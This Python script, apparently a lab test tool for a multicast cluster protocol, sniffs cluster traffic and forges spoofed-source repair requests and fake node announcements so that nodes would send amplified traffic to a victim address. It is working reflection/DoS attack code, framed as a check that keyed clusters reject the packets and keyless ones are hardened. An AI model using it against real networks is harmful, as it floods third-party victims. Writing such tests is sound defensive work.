#!/usr/bin/env python3
"""attack_amp.py: an outsider that tries to aim a cluster's traffic at a victim (run as root in
its own namespace of a namespace LAN; measure the victim's side with a counter there).

Usage: attack_amp.py MODE VICTIM_IP [--seconds S] [--rate N] [--ids N]

It sniffs every frame on eth0 (AF_PACKET: the bridge floods multicast to every port) and
learns from the clear-text headers and bodies: cluster id, node ids and their unicast
addresses (announcements), and each stream's region, epoch and newest sequence number (data).
Then, at most --rate datagrams a second (default 1000) for --seconds (default 10):

  repair    RepairRequests of 100 packets each, in the name of a real member (header sender)
            and with the victim's address as IP source (raw socket), to every node's unicast
            address: a node answering the source address would send ~100 MTU-sized repairs to
            the victim for one 60-byte request.
  announce  Announcements of --ids (default 5000) made-up node ids, cycled, with the
            victim's address as their unicast address; half complete (a node would take the
            victim as a gossip seed and probe it), half the first chunk of two (assembly
            memory). Sent to the control group.

Everything is sealed with the plain CRC-32 (no key): a keyed cluster must refuse all of it as
auth drops; a keyless one must still not send the victim more than it gets (the hardening).
Prints one JSON line: datagrams and bytes sent (IP level), what was learned.
"""
import json
import socket
import struct
import sys
import time

from attack import HEADER_LEN, seal_plain  # the same keyless sealing as the replay attacker

KIND_ANNOUNCE, KIND_DATA, KIND_FRAGMENT, KIND_REPAIR_REQUEST = 1, 2, 3, 7
ETH_P_IP = 0x0800


def checksum16(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack(f">{len(b) // 2}H", b))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def ip_udp(src, sport, dst, dport, payload):
    """An IPv4 + UDP packet with source `src` (spoofed), TTL 1."""
    ulen = 8 + len(payload)
    udp = struct.pack(">HHHH", sport, dport, ulen, 0) + payload
    ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + ulen, 0, 0, 1, 17, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    ip = ip[:10] + struct.pack(">H", checksum16(ip)) + ip[12:]
    return ip + udp


class Learned:
    def __init__(self):
        self.cluster = None
        self.nodes = {}  # id -> (ip, port)
        self.streams = {}  # (sender, region, epoch) -> newest seq
        self.control = None  # (group, port) of announcements

    def frame(self, pkt):
        if len(pkt) < 28 or pkt[9] != 17:
            return
        ihl = (pkt[0] & 0xF) * 4
        dst = socket.inet_ntoa(pkt[16:20])
        dport = struct.unpack(">H", pkt[ihl + 2:ihl + 4])[0]
        d = pkt[ihl + 8:]
        if len(d) < HEADER_LEN or d[0:2] != b"QS":
            return
        kind = d[3]
        cluster, sender = struct.unpack(">QQ", d[12:28])
        self.cluster = cluster
        body = d[HEADER_LEN:]
        if kind == KIND_ANNOUNCE and len(body) >= 14:
            ip = socket.inet_ntoa(body[8:12])
            port = struct.unpack(">H", body[12:14])[0]
            self.nodes[sender] = (ip, port)
            self.control = (dst, dport)
        elif kind == KIND_DATA and len(body) >= 24:
            # Data body: region u64, seq u32, count u16, reserved u16, epoch u64, ...
            region, seq = struct.unpack(">QI", body[:12])
            epoch = struct.unpack(">Q", body[16:24])[0]
            self.streams[(sender, region, epoch)] = seq
        elif kind == KIND_FRAGMENT and len(body) >= 36:
            region, seq = struct.unpack(">QI", body[:12])
            epoch = struct.unpack(">Q", body[28:36])[0]
            self.streams[(sender, region, epoch)] = seq


def main():
    args = sys.argv[1:]
    if len(args) < 2 or args[0] not in ("repair", "announce"):
        print(__doc__, file=sys.stderr)
        sys.exit(2)
    mode, victim = args[0], args[1]
    opts = dict(zip(args[2::2], args[3::2]))
    seconds = float(opts.get("--seconds", "10"))
    rate = int(opts.get("--rate", "1000"))
    fake_ids = int(opts.get("--ids", "5000"))

    sniff = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_IP))
    sniff.bind(("eth0", 0))
    sniff.setblocking(False)
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    learned = Learned()

    def drain():
        while True:
            try:
                learned.frame(sniff.recv(65536))
            except BlockingIOError:
                return

    # Learn until there is something to forge (at most 10 s).
    deadline = time.monotonic() + 10
    while time.monotonic() < deadline:
        drain()
        ready = learned.cluster is not None and learned.nodes
        if ready and (mode == "announce" or learned.streams):
            break
        time.sleep(0.05)

    sent = {"mode": mode, "datagrams": 0, "bytes": 0}
    start = time.monotonic()
    n = 0
    while time.monotonic() - start < seconds and learned.cluster is not None:
        drain()
        out = []
        if mode == "repair" and learned.streams:
            members = sorted(learned.nodes)
            (sender, region, epoch), seq = sorted(learned.streams.items())[n % len(learned.streams)]
            asker = members[n % len(members)]
            first = max(0, seq - 100)
            # ranges: count u16 then (first u32, count u32) per range.
            body = struct.pack(">QQQHII", region, sender, epoch, 1, first, 100)
            d = seal_plain(KIND_REPAIR_REQUEST, learned.cluster, asker, body)
            for ip, port in sorted(learned.nodes.values()):
                out.append(ip_udp(victim, 7400, ip, port, d))
        elif mode == "announce" and learned.control:
            fake = 0x7A7A_0000_0000_0000 + n % fake_ids
            if n % 2 == 0:
                # Complete, no topics: the digest of an empty list is XXH3-64 of nothing.
                chunks, digest, topics = 1, 0x2D06800538D394C2, b""
            else:
                chunks, digest, topics = 2, 0x5EED, struct.pack(">Q", 0x1000 + n % 7)
            body = struct.pack(">Q4sHBBIHHQ", 1, socket.inet_aton(victim), 7400, 0, 0, 1, 0,
                               chunks, digest) + topics
            d = seal_plain(KIND_ANNOUNCE, learned.cluster, fake, body)
            group, port = learned.control
            out.append(ip_udp(victim, 7400, group, port, d))
        for pkt in out:
            try:
                raw.sendto(pkt, (socket.inet_ntoa(pkt[16:20]), 0))
                sent["datagrams"] += 1
                sent["bytes"] += len(pkt)
            except OSError:
                pass
        n += 1
        # Pace to --rate datagrams a second.
        ahead = sent["datagrams"] / rate - (time.monotonic() - start)
        if ahead > 0:
            time.sleep(ahead)
    sent["nodes_learned"] = len(learned.nodes)
    sent["streams_learned"] = len(learned.streams)
    print(json.dumps(sent))


if __name__ == "__main__":
    main()
